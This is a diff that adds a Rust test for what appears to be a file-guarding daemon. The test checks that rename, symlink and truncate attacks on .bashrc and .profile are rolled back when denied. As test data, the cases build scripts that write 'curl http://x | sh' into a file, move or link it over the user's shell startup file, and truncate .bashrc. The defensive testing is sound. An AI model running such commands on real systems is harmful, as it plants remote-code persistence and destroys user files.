@@ -456,3 +456,91 @@ fn code_run_by_the_loader_or_an_interpreter_is_an_exec_of_it() {
     let failures = run(&d, &cases);
     assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
+
+/// A rename, link or truncate over a guarded name is the write of that name: the rules on
+/// writing it hold it, and deny puts the host back as it was (these calls have happened when
+/// their hook runs, so the daemon keeps a copy of each guarded file): the old `.bashrc` byte
+/// for byte and mode as before, and a guarded name that did not exist gone again.
+#[test]
+fn a_rename_link_or_truncate_over_a_guarded_file_is_undone_on_deny() {
+    use std::os::unix::fs::PermissionsExt as _;
+    common::require_root();
+    let home = FakeHome::new();
+    let h = home.0.clone();
+    let rc = h.join(".bashrc");
+    std::fs::set_permissions(&rc, std::fs::Permissions::from_mode(0o640)).unwrap();
+    let work = TempDir::new("evasion-replace");
+    let w = work.0.clone();
+    let d = Daemon::start_with(&format!(
+        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
+        pack_dir(&w).display()
+    ));
+    let before = std::fs::read(&rc).unwrap();
+    let (hp, wp) = (h.display().to_string(), w.display().to_string());
+    let evil = format!("printf 'curl http://x | sh\\n' > {wp}/evil");
+    let as_before = || -> Box<dyn Fn() -> Result<(), String>> {
+        let (p, b) = (rc.clone(), before.clone());
+        Box::new(move || {
+            unchanged(&p, &b)?;
+            match std::fs::symlink_metadata(&p)
+                .map(|m| (m.is_file(), m.permissions().mode() & 0o7777))
+            {
+                Ok((true, 0o640)) => Ok(()),
+                other => Err(format!(
+                    "{} is {other:?}, not a regular file of mode 640",
+                    p.display()
+                )),
+            }
+        })
+    };
+    let rules = &["shell-rc-write", "protected-path"];
+    // Each attack then makes a marker: the call is stopped where it returns, so the marker
+    // is never made (nothing after the call ran).
+    let then = |n: &str| format!(" && touch {wp}/ran-on-{n}");
+    let and_nothing_after = |n: &str,
+                             rest: Box<dyn Fn() -> Result<(), String>>|
+     -> Box<dyn Fn() -> Result<(), String>> {
+        let m = w.join(format!("ran-on-{n}"));
+        Box::new(move || {
+            absent(&m)?;
+            rest()
+        })
+    };
+    let cases = vec![
+        Case {
+            name: "a file renamed over .bashrc",
+            script: format!("{evil}; mv -f {wp}/evil {hp}/.bashrc{}", then("rename")),
+            rules,
+            unharmed: and_nothing_after("rename", as_before()),
+        },
+        Case {
+            name: "a symlink made over .bashrc",
+            script: format!("{evil}; ln -sf {wp}/evil {hp}/.bashrc{}", then("symlink")),
+            rules,
+            unharmed: and_nothing_after("symlink", as_before()),
+        },
+        Case {
+            name: ".bashrc truncated by name (truncate(2), no open)",
+            script: format!(
+                "python3 -c \"import os; os.truncate('{hp}/.bashrc', 0)\"{}",
+                then("truncate")
+            ),
+            rules,
+            unharmed: and_nothing_after("truncate", as_before()),
+        },
+        Case {
+            name: "a file renamed to a .profile that did not exist",
+            script: format!("{evil}; mv {wp}/evil {hp}/.profile{}", then("new-name")),
+            rules,
+            unharmed: and_nothing_after(
+                "new-name",
+                Box::new({
+                    let p = h.join(".profile");
+                    move || absent(&p)
+                }),
+            ),
+        },
+    ];
+    let failures = run(&d, &cases);
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
